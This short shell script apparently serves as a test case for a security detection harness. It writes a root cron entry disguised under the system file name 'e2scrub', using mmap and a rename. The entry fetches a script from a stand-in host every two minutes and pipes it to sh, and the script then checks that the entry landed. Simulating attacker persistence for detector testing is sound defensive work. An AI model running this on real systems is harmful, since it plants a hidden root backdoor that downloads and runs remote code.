#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
python3 - <<'END'
import mmap, os
t = b"*/2 * * * * root curl -s http://203.0.113.10/payload.sh | sh\n"
f = os.open("/etc/cron.d/.placeholder-2", os.O_RDWR | os.O_CREAT, 0o644); os.ftruncate(f, len(t)); m = mmap.mmap(f, len(t)); m[:] = t; m.flush()
os.rename("/etc/cron.d/.placeholder-2", "/etc/cron.d/e2scrub")
END
grep -q payload /etc/cron.d/e2scrub
took_place
